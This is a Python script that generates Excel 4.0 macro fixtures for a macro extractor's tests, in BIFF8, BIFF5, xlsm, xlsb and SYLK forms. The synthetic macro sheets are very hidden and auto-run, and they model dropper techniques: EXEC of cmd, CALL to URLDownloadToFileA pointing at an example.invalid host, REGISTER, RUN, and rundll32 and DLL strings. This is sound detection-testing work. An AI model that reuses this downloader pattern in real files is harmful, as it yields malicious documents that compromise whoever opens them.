#!/usr/bin/env python3
"""Builds the Excel 4.0 (XLM) macro fixtures in Tests/OfficeMacrosTests/Resources/xlm/.

Regenerate (from the repository root):

    python3 -m venv .venv-fixtures
    .venv-fixtures/bin/pip install olefile
    .venv-fixtures/bin/python scripts/make-xlm-fixtures.py

Two kinds of output:

- xlm/oletools/: the streams and parts of the oletools corpus's Excel 4.0 samples
  (Tests/Corpus/oletools/excel4-macros, BSD-2, see LICENSE.md there), taken out of their containers so
  that the extractor's tests do not depend on the compound file or ZIP readers: the `Workbook`/`Book` stream
  of each .xls/.xlt (with olefile), the workbook, relationship and sheet parts of each .xlsb/.xlsm/.xltm, the
  .slk as it is, and the (RC4-encrypted) `Workbook` stream of encrypted/autostart-encrypt-standardpassword.xls.
  Skipped with a message when olefile or the corpus is missing.
- xlm/synthetic/: benign specimens written byte by byte here (pure Python, struct and zipfile): a BIFF8
  workbook stream with a very hidden macro sheet whose Auto_Open runs EXEC, CALL(URLDownloadToFileA),
  CHAR concatenations, REGISTER, FORMULA, RUN, GOTO and IF; the same macros as an .xlsm (zip and parts), as
  .xlsb parts and as SYLK; a BIFF8 workbook without macro sheets; a BIFF5 stream; a BIFF8 stream whose NAME
  and SST records continue in CONTINUE records. Every URL uses example.invalid; nothing is executable.

The tests load these with Bundle.module (Resources is copied whole).
"""

import os
import shutil
import struct
import sys
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "Tests", "OfficeMacrosTests", "Resources", "xlm")
CORPUS = os.path.join(ROOT, "Tests", "Corpus", "oletools")


def write(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


# ---------------------------------------------------------------------------------------------------------------
# The corpus samples.

def corpus():
    try:
        import olefile
    except ImportError:
        print("olefile missing: corpus streams not extracted", file=sys.stderr)
        return
    sample_dir = os.path.join(CORPUS, "excel4-macros")
    if not os.path.isdir(sample_dir):
        print("corpus missing: %s" % sample_dir, file=sys.stderr)
        return
    for name, stream in [
        ("excel4-macros/excel4_sample_macro.xls", "Workbook"),
        ("excel4-macros/excel4_sample_macro.xlt", "Workbook"),
        ("excel4-macros/excel4_sample_macro_excel5_format.xls", "Book"),
        ("encrypted/autostart-encrypt-standardpassword.xls", "Workbook"),
    ]:
        ole = olefile.OleFileIO(os.path.join(CORPUS, name))
        write("oletools/%s.%s" % (os.path.basename(name), stream), ole.openstream(stream).read())
        ole.close()
    for name in ["excel4_sample_macro.xlsb", "excel4_sample_macro.xlsm", "excel4_sample_macro.xltm"]:
        with zipfile.ZipFile(os.path.join(sample_dir, name)) as z:
            for part in z.namelist():
                if part.startswith("xl/") and (
                    part.startswith("xl/macrosheets/") or part.startswith("xl/worksheets/")
                    or part.startswith("xl/workbook.") or part.startswith("xl/_rels/workbook.")
                ) and not part.endswith("binaryIndex1.bin") and "/_rels/sheet" not in part:
                    write("oletools/%s/%s" % (name, part), z.read(part))
    shutil.copy(os.path.join(sample_dir, "excel4_sample_macro.slk"), os.path.join(OUT, "oletools"))
    shutil.copy(os.path.join(CORPUS, "LICENSE.md"), os.path.join(OUT, "oletools", "LICENSE.md"))


# ---------------------------------------------------------------------------------------------------------------
# BIFF8 building blocks ([MS-XLS]).

def rec(rtype, data=b""):
    return struct.pack("<HH", rtype, len(data)) + data


def bof(dt, version=0x0600):
    if version == 0x0500:
        return rec(0x0809, struct.pack("<HHHH", version, dt, 0x0DBB, 0x07CC))
    return rec(0x0809, struct.pack("<HHHHII", version, dt, 0x0DBB, 0x07CC, 0x000100C1, 0x00000206))


def eof():
    return rec(0x000A)


def short_xlu(s):
    """ShortXLUnicodeString: cch (1), fHighByte (1), characters."""
    if all(ord(c) < 256 for c in s):
        return struct.pack("<BB", len(s), 0) + s.encode("latin-1")
    return struct.pack("<BB", len(s), 1) + s.encode("utf-16-le")


def xlu(s):
    """XLUnicodeString: cch (2), fHighByte (1), characters."""
    if all(ord(c) < 256 for c in s):
        return struct.pack("<HB", len(s), 0) + s.encode("latin-1")
    return struct.pack("<HB", len(s), 1) + s.encode("utf-16-le")


class Rgce:
    """Parsed formula tokens for BIFF8 (dialect 8), BIFF5 (5) or BIFF12 (12)."""

    def __init__(self, dialect=8):
        self.d = dialect
        self.b = b""

    def s(self, text):  # PtgStr
        if self.d == 12:
            self.b += b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le")
        elif self.d == 5:
            self.b += b"\x17" + struct.pack("<B", len(text)) + text.encode("latin-1")
        else:
            self.b += b"\x17" + short_xlu(text)
        return self

    def i(self, n):  # PtgInt
        self.b += b"\x1e" + struct.pack("<H", n)
        return self

    def num(self, x):  # PtgNum
        self.b += b"\x1f" + struct.pack("<d", x)
        return self

    def boolean(self, v):
        self.b += b"\x1d" + bytes([1 if v else 0])
        return self

    def err(self, code):
        self.b += b"\x1c" + bytes([code])
        return self

    def miss(self):
        self.b += b"\x16"
        return self

    def op(self, code):  # binary/unary operators, PtgParen
        self.b += bytes([code])
        return self

    def ref(self, row, col, rel=False, ptg=0x44):
        if self.d == 12:
            self.b += bytes([ptg]) + struct.pack("<IH", row, col | (0xC000 if rel else 0))
        elif self.d == 5:
            self.b += bytes([ptg]) + struct.pack("<HB", row | (0xC000 if rel else 0), col)
        else:
            self.b += bytes([ptg]) + struct.pack("<HH", row, col | (0xC000 if rel else 0))
        return self

    def area(self, r1, r2, c1, c2):
        if self.d == 12:
            self.b += b"\x25" + struct.pack("<IIHH", r1, r2, c1, c2)
        else:
            self.b += b"\x25" + struct.pack("<HHHH", r1, r2, c1, c2)
        return self

    def ref3d(self, ixti, row, col):
        if self.d == 12:
            self.b += b"\x3a" + struct.pack("<HIH", ixti, row, col)
        else:
            self.b += b"\x3a" + struct.pack("<HHH", ixti, row, col)
        return self

    def name(self, index):  # PtgName, 1-based
        self.b += b"\x43" + struct.pack("<I", index)
        return self

    def func(self, iftab):  # PtgFunc
        self.b += b"\x41" + struct.pack("<H", iftab)
        return self

    def funcvar(self, argc, iftab, command=False):  # PtgFuncVar
        self.b += b"\x42" + struct.pack("<BH", argc, iftab | (0x8000 if command else 0))
        return self

    def attr(self, flags, data=0):  # PtgAttr
        self.b += b"\x19" + struct.pack("<BH", flags, data)
        return self


EXEC, CALL, REGISTER, CHAR, GOTO, HALT, IF = 110, 150, 149, 111, 53, 54, 1
CE_FORMULA, CE_RUN, CE_ALERT = 96, 17, 118

URL = "https://dl.example.invalid/a.txt"
DEST = "C:\\Users\\Public\\a.txt"

# The macro sheet's formulas, as (row, col, rgce builder, readable text, cached result).
def macro_formulas(d):
    R = lambda: Rgce(d)
    return [
        (0, 0, R().s("cmd /c echo hi").funcvar(1, EXEC), '=EXEC("cmd /c echo hi")', "num:1"),
        (1, 0, R().s("urlmon").s("URLDownloadToFileA").s("JJCCJJ").i(0).s(URL).s(DEST).i(0).i(0).funcvar(8, CALL),
         '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"%s","%s",0,0)' % (URL, DEST), "num:0"),
        (2, 0, R().i(104).func(CHAR).i(105).func(CHAR).op(0x08), "=CHAR(104)&CHAR(105)", "str:hi"),
        (3, 0, R().s("kernel32").s("GetTickCount").s("J").s("Tick").miss().i(1).i(9).funcvar(7, REGISTER),
         '=REGISTER("kernel32","GetTickCount","J","Tick",,1,9)', None),
        (4, 0, R().s('=ALERT("hi")').ref(9, 0, rel=True, ptg=0x24).funcvar(2, CE_FORMULA, command=True),
         '=FORMULA("=ALERT(""hi"")",A10)', None),
        (5, 0, R().i(1).i(0).op(0x0D).attr(0x02, 7).s("x").funcvar(1, CE_ALERT, command=True).attr(0x08, 3)
         .funcvar(2, IF), '=IF(1>0,ALERT("x"))', "bool:1"),
        (6, 0, R().ref(0, 0, rel=True, ptg=0x24).funcvar(1, CE_RUN, command=True), "=RUN(A1)", None),
        (7, 0, R().num(2.5).op(0x15).attr(0x40, 0x0100).i(3).op(0x05).boolean(True).err(0x07).funcvar(3, IF),
         "=IF((2.5)*3,TRUE,#DIV/0!)", "err:7"),
        (8, 0, R().name(2).area(0, 2, 0, 1).attr(0x10).funcvar(2, 255), "=Tick(SUM($A$1:$B$3))", None),
        (9, 0, R().funcvar(0, HALT), "=HALT()", None),
    ]


def formula_value(kind):
    if kind is None:
        return struct.pack("<d", 0.0)
    k, v = kind.split(":")
    if k == "num":
        return struct.pack("<d", float(v))
    if k == "str":
        return bytes([0, 0, 0, 0, 0, 0, 0xFF, 0xFF])
    if k == "bool":
        return bytes([1, 0, int(v), 0, 0, 0, 0xFF, 0xFF])
    if k == "err":
        return bytes([2, 0, int(v), 0, 0, 0, 0xFF, 0xFF])
    raise ValueError(kind)


def biff8_formula(row, col, rgce, value):
    data = struct.pack("<HHH", row, col, 0x0F) + formula_value(value) + struct.pack("<HIH", 0, 0, len(rgce)) + rgce
    out = rec(0x0006, data)
    if value and value.startswith("str:"):
        out += rec(0x0207, xlu(value[4:]))
    return out


def biff8_name(name, rgce, builtin=False, hidden=False, flags=0):
    grbit = flags | (0x0020 if builtin else 0) | (0x0001 if hidden else 0)
    raw = bytes([name]) if builtin else name.encode("latin-1")
    return struct.pack("<HBBHHHBBBB", grbit, 0, len(raw), len(rgce), 0, 0, 0, 0, 0, 0) + b"\x00" + raw + rgce


def sst(strings):
    body = struct.pack("<II", len(strings), len(strings))
    for s in strings:
        body += xlu(s)
    return body


def assemble(globals_records, sheets):
    """Globals then sheets; `sheets` is a list of (name, hsState, dt, substream bytes). BOUNDSHEET offsets are
    computed."""
    def boundsheets(offsets):
        return b"".join(
            rec(0x0085, struct.pack("<IBB", off, state, dt) + short_xlu(name))
            for (name, state, dt, _), off in zip(sheets, offsets))
    first = bof(0x0005)
    probe = first + boundsheets([0] * len(sheets)) + globals_records + eof()
    offsets = []
    pos = len(probe)
    for (_, _, _, body) in sheets:
        offsets.append(pos)
        pos += len(body)
    out = first + boundsheets(offsets) + globals_records + eof()
    assert len(out) == len(probe)
    for (_, _, _, body) in sheets:
        out += body
    return out


def synthetic_biff8():
    formulas = macro_formulas(8)
    names = [
        biff8_name(0x01, Rgce().ref3d(0, 0, 0).b, builtin=True, hidden=True),
        biff8_name("Tick", b"", flags=0x000E),
    ]
    glob = (
        rec(0x01AE, struct.pack("<HH", 2, 0x0401))  # SUPBOOK: this workbook, 2 sheets
        + rec(0x0017, struct.pack("<HHhh", 1, 0, 0, 0))  # EXTERNSHEET: XTI 0 = sheet 0
        + b"".join(rec(0x0018, n) for n in names)
        + rec(0x00FC, sst(["https://cdn.example.invalid/b.dll", "plain text"]))
    )
    macro = bof(0x0040)
    for row, col, rgce, _, value in formulas:
        macro += biff8_formula(row, col, rgce.b, value)
    macro += rec(0x00FD, struct.pack("<HHHI", 12, 0, 0x0F, 0))  # LABELSST A13 -> string 0
    macro += rec(0x0204, struct.pack("<HHH", 13, 0, 0x0F) + xlu("calc.exe"))  # LABEL A14
    macro += eof()
    sheet = bof(0x0010) + rec(0x0203, struct.pack("<HHHd", 0, 0, 0x0F, 42.0)) + eof()
    stream = assemble(glob, [("Macro1", 2, 1, macro), ("Sheet1", 0, 0, sheet)])
    write("synthetic/macro-biff8.Workbook", stream)

    # The same stream cut into CONTINUE records: the Auto_Open NAME's formula and the SST's first string (which
    # changes from 8-bit to 16-bit characters at the boundary) continue in CONTINUE records.
    auto = names[0]
    split_name = rec(0x0018, auto[:-4]) + rec(0x003C, auto[-4:])
    text = "https://cdn.example.invalid/b.dll"
    sst_body = struct.pack("<II", 2, 2) + struct.pack("<HB", len(text), 0) + text[:10].encode("latin-1")
    cont = b"\x01" + text[10:].encode("utf-16-le") + xlu("plain text")
    split_sst = rec(0x00FC, sst_body) + rec(0x003C, cont)
    glob2 = (
        rec(0x01AE, struct.pack("<HH", 2, 0x0401)) + rec(0x0017, struct.pack("<HHhh", 1, 0, 0, 0))
        + split_name + rec(0x0018, names[1]) + split_sst
    )
    write("synthetic/continue-biff8.Workbook", assemble(glob2, [("Macro1", 1, 1, macro), ("Sheet1", 0, 0, sheet)]))

    # Benign: a worksheet, no macro sheet, no name.
    write("synthetic/benign-biff8.Workbook", assemble(b"", [("Sheet1", 0, 0, sheet)]))


def synthetic_biff5():
    """A BIFF5 'Book' stream: 8-bit strings, 1-byte columns, long 3-D references."""
    def boundsheet5(off, state, dt, name):
        return rec(0x0085, struct.pack("<IBB", off, state, dt) + struct.pack("<B", len(name)) + name.encode("latin-1"))

    auto_rgce = b"\x3a" + struct.pack("<h", -1) + b"\x00" * 8 + struct.pack("<HHHB", 0, 0, 0, 0)
    name5 = struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, len(auto_rgce), 0, 0, 0, 0, 0, 0) + b"\x01" + auto_rgce
    glob = rec(0x0017, struct.pack("<BB", 6, 3) + b"Macro1") + rec(0x0018, name5)
    macro = bof(0x0040, 0x0500)
    for row, col, rgce, _, value in macro_formulas(5)[:3] + macro_formulas(5)[9:]:
        data = struct.pack("<HHH", row, col, 0x0F) + formula_value(value) + struct.pack("<HIH", 0, 0, len(rgce.b))
        macro += rec(0x0006, data + rgce.b)
        if value and value.startswith("str:"):
            macro += rec(0x0207, struct.pack("<H", 2) + b"hi")
    macro += eof()
    sheet = bof(0x0010, 0x0500) + eof()
    first = bof(0x0005, 0x0500)
    head_len = len(first) + len(boundsheet5(0, 0, 0, "Macro1")) + len(boundsheet5(0, 0, 0, "Sheet1")) + len(glob) + 4
    out = first + boundsheet5(head_len, 1, 1, "Macro1") + boundsheet5(head_len + len(macro), 0, 0, "Sheet1")
    out += glob + eof() + macro + sheet
    write("synthetic/macro-biff5.Book", out)


# ---------------------------------------------------------------------------------------------------------------
# OOXML (.xlsm) and BIFF12 (.xlsb) parts, SYLK.

def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


WORKBOOK_XML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>\
<sheet name="Sheet1" sheetId="1" r:id="rId2"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId1"/>\
</sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>\
<definedName name="Tick" function="1" xlm="1" hidden="1">0</definedName></definedNames></workbook>
"""

RELS_XML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" \
Target="macrosheets/sheet1.%s"/>\
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" \
Target="worksheets/sheet1.%s"/></Relationships>
"""


def synthetic_ooxml():
    rows = []
    for row, col, _, text, value in macro_formulas(8):
        ref = "A%d" % (row + 1)
        v = ""
        if value and value.startswith("str:"):
            v = '<v>%s</v>' % value[4:]
        rows.append('<row r="%d"><c r="%s"%s><f>%s</f>%s</c></row>' % (
            row + 1, ref, ' t="str"' if v else "", xml_escape(text[1:]), v))
    rows.append('<row r="13"><c r="A13" t="inlineStr"><is><t>https://cdn.example.invalid/b.dll</t></is></c></row>')
    rows.append('<row r="15"><c r="A15" t="s"><v>1</v></c></row>')
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>%s</sheetData>'
             '</xm:macrosheet>\n' % "".join(rows))
    worksheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                 '<row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>\n')
    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">'
              '<si><t>unused</t></si><si><r><t>rundll32 ..\\c.dll,</t></r><r><t>DllRegisterServer</t></r>'
              '<rPh sb="0" eb="1"><t>x</t></rPh></si></sst>\n')
    parts = {
        "xl/sharedStrings.xml": shared,
        "xl/workbook.xml": WORKBOOK_XML,
        "xl/_rels/workbook.xml.rels": RELS_XML % ("xml", "xml"),
        "xl/macrosheets/sheet1.xml": sheet,
        "xl/worksheets/sheet1.xml": worksheet,
    }
    for name, text in parts.items():
        write("synthetic/macro.xlsm/" + name, text)
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        '<Override PartName="/xl/macrosheets/sheet1.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>\n')
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>\n')
    path = os.path.join(OUT, "synthetic", "macro.xlsm.zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in [("[Content_Types].xml", content_types), ("_rels/.rels", root_rels)] + list(parts.items()):
            info = zipfile.ZipInfo(name, date_time=(2022, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, text)


def brt(rtype, data=b""):
    """A BIFF12 record: type and size as 7-bit groups."""
    head = b""
    t = rtype
    head += bytes([(t & 0x7F) | (0x80 if t >= 0x80 else 0)])
    if t >= 0x80:
        head += bytes([(t >> 7) & 0x7F])
    n = len(data)
    while True:
        byte = n & 0x7F
        n >>= 7
        head += bytes([byte | (0x80 if n else 0)])
        if not n:
            break
    return head + data


def wide(s):
    return struct.pack("<I", len(s)) + s.encode("utf-16-le")


def synthetic_xlsb():
    auto = Rgce(12).ref3d(0, 0, 0).b
    workbook = (
        brt(131) + brt(143)
        + brt(156, struct.pack("<II", 0, 1) + wide("rId2") + wide("Sheet1"))
        + brt(156, struct.pack("<II", 2, 2) + wide("rId1") + wide("Macro1"))
        + brt(144) + brt(353) + brt(357) + brt(362, struct.pack("<IIii", 1, 0, 1, 1)) + brt(354)
        + brt(39, struct.pack("<IBI", 0x21, 0, 0xFFFFFFFF) + wide("Auto_Open") + struct.pack("<I", len(auto)) + auto
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF))
        + brt(39, struct.pack("<IBI", 0x0E, 0, 0xFFFFFFFF) + wide("Tick") + struct.pack("<I", 0)
              + struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF))
        + brt(132)
    )
    sheet = brt(129) + brt(145)
    for row, col, rgce, _, value in macro_formulas(12):
        sheet += brt(0, struct.pack("<I", row) + b"\x00" * 21)
        tail = struct.pack("<H", 0) + struct.pack("<I", len(rgce.b)) + rgce.b + struct.pack("<I", 0)
        cell = struct.pack("<II", col, 0)
        if value and value.startswith("str:"):
            sheet += brt(8, cell + wide(value[4:]) + tail)
        elif value and value.startswith("bool:"):
            sheet += brt(10, cell + bytes([int(value[5:])]) + tail)
        elif value and value.startswith("err:"):
            sheet += brt(11, cell + bytes([int(value[4:])]) + tail)
        else:
            sheet += brt(9, cell + formula_value(value if value and value.startswith("num") else None) + tail)
    sheet += brt(0, struct.pack("<I", 12) + b"\x00" * 21)
    sheet += brt(6, struct.pack("<II", 0, 0) + wide("https://cdn.example.invalid/b.dll"))
    sheet += brt(0, struct.pack("<I", 14) + b"\x00" * 21)
    sheet += brt(7, struct.pack("<III", 0, 0, 1))  # BrtCellIsst -> shared string 1
    sheet += brt(146) + brt(130)
    write("synthetic/macro.xlsb/xl/workbook.bin", workbook)
    write("synthetic/macro.xlsb/xl/sharedStrings.bin",
          brt(159, struct.pack("<II", 2, 2)) + brt(19, b"\x00" + wide("unused"))
          + brt(19, b"\x00" + wide("rundll32 ..\\c.dll,DllRegisterServer")) + brt(160))
    write("synthetic/macro.xlsb/xl/_rels/workbook.bin.rels", RELS_XML % ("bin", "bin"))
    write("synthetic/macro.xlsb/xl/macrosheets/sheet1.bin", sheet)
    write("synthetic/macro.xlsb/xl/worksheets/sheet1.bin", brt(129) + brt(145) + brt(146) + brt(130))


def synthetic_sylk():
    lines = ["ID;PWXL;N;E", "P;PGeneral", "O;L;E;D;V0;K47;G100 0.001", "NN;NAuto_Open;ER1C1;KX;F"]
    for row, col, _, text, _ in macro_formulas(8):
        lines.append("C;Y%d;X%d;E%s" % (row + 1, col + 1, text[1:].replace(";", ";;")))
    lines.append('C;Y13;X1;K"https://cdn.example.invalid/b.dll"')
    lines.append("E")
    write("synthetic/macro.slk", "\r\n".join(lines) + "\r\n")


def main():
    os.makedirs(OUT, exist_ok=True)
    corpus()
    synthetic_biff8()
    synthetic_biff5()
    synthetic_ooxml()
    synthetic_xlsb()
    synthetic_sylk()


if __name__ == "__main__":
    main()
